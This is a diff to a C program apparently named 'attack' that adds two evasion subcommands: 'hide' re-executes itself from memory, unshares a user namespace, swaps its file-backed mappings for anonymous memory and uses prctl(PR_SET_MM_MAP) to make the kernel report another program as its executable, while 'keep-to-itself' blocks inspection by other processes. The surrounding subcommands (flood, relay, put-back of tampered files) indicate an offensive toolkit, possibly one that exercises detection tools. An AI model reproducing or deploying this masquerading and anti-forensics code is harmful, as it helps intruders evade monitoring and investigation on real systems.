@@ -3,12 +3,14 @@
 #include <errno.h>
 #include <fcntl.h>
 #include <pthread.h>
+#include <sched.h>
 #include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
 #include <sys/inotify.h>
 #include <sys/mman.h>
+#include <sys/prctl.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
 #include <sys/wait.h>
@@ -110,6 +112,71 @@ static int headless(const char *again) {
   return 1;
 }
 
+/* Puts memory of no file in the place of each mapping of the file that this program runs from. */
+static void leave_file(void) {
+  static char line[4096];
+  FILE *maps = fopen("/proc/self/maps", "r");
+  struct { unsigned long from, to; int rights; } found[32];
+  int count = 0;
+  while (maps != NULL && fgets(line, sizeof line, maps) != NULL) {
+    char rights[5];
+    if (strstr(line, "/memfd:") == NULL || count == 32) continue;
+    if (sscanf(line, "%lx-%lx %4s", &found[count].from, &found[count].to, rights) != 3) fail("maps");
+    found[count++].rights = (rights[0] == 'r' ? PROT_READ : 0) | (rights[1] == 'w' ? PROT_WRITE : 0)
+      | (rights[2] == 'x' ? PROT_EXEC : 0);
+  }
+  fclose(maps);
+  for (int i = 0; i < count; i++) {
+    size_t size = found[i].to - found[i].from;
+    void *copy = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+    if (copy == MAP_FAILED) fail("mmap");
+    memcpy(copy, (void *) found[i].from, size);
+    if (mprotect(copy, size, found[i].rights) < 0
+        || mremap(copy, size, size, MREMAP_MAYMOVE | MREMAP_FIXED, (void *) found[i].from) == MAP_FAILED)
+      fail("mremap");
+  }
+}
+
+/* Has the kernel say that this process runs PROGRAM: a right that everybody has in a user namespace of his own. */
+static void say_that_it_runs(const char *program) {
+  char text[4096], *field;
+  unsigned long long fields[53] = {0};
+  int fd = open("/proc/self/stat", O_RDONLY);
+  ssize_t length = read(fd, text, sizeof text - 1);
+  if (length < 0) fail("stat");
+  close(fd);
+  text[length] = 0;
+  field = strtok(strrchr(text, ')') + 2, " ");
+  for (int i = 3; field != NULL && i < 53; i++, field = strtok(NULL, " ")) fields[i] = strtoull(field, NULL, 10);
+  struct prctl_mm_map map = {
+    .start_code = fields[26], .end_code = fields[27], .start_stack = fields[28], .start_data = fields[45],
+    .end_data = fields[46], .start_brk = fields[47], .brk = (uintptr_t) sbrk(0), .arg_start = fields[48],
+    .arg_end = fields[49], .env_start = fields[50], .env_end = fields[51], .auxv = NULL, .auxv_size = 0,
+    .exe_fd = open(program, O_RDONLY)};
+  if (prctl(PR_SET_MM, PR_SET_MM_MAP, &map, sizeof map, 0) < 0) fail("PR_SET_MM_MAP");
+}
+
+/* Executes this program from memory, which then has the kernel say that it runs PROGRAM. */
+static int hide(const char *program, const char *again) {
+  if (again == NULL) {
+    char *args[] = {"attack", "hide", (char *) program, "again", NULL};
+    pid_t child = fork(); /* that of nobody outside */
+    if (child != 0) return child < 0;
+    fexecve(in_memory("/proc/self/exe"), args, environ);
+    fail("fexecve");
+  }
+  if (unshare(CLONE_NEWUSER) < 0) fail("unshare");
+  leave_file();
+  say_that_it_runs(program);
+  for (;;) pause();
+}
+
+/* Forbids others of its user to look at this process. */
+static void keep_to_itself(void) {
+  if (prctl(PR_SET_DUMPABLE, 0) < 0) fail("PR_SET_DUMPABLE");
+  for (;;) pause();
+}
+
 /* Writes to FILE, and puts it right, its time too, as soon as somebody opens it; a hundred times. */
 static int put_back(const char *file) {
   char was[4096], event[4096];
@@ -149,6 +216,8 @@ int main(int argc, char **argv) {
   if (argc == 3 && strcmp(argv[1], "memory") == 0) return memory(argv[2]);
   if (argc == 3 && strcmp(argv[1], "relay") == 0) relay(argv[2]);
   if (argc >= 2 && strcmp(argv[1], "headless") == 0) return headless(argv[2]);
+  if (argc >= 3 && strcmp(argv[1], "hide") == 0) return hide(argv[2], argv[3]);
+  if (argc == 2 && strcmp(argv[1], "keep-to-itself") == 0) keep_to_itself();
   if (argc == 3 && strcmp(argv[1], "put-back") == 0) return put_back(argv[2]);
   if (argc == 3 && strcmp(argv[1], "capability") == 0) return capability(argv[2]);
   if (argc == 5 && strcmp(argv[1], "flood") == 0) return flood(argv[2], argv[3], atoi(argv[4]));
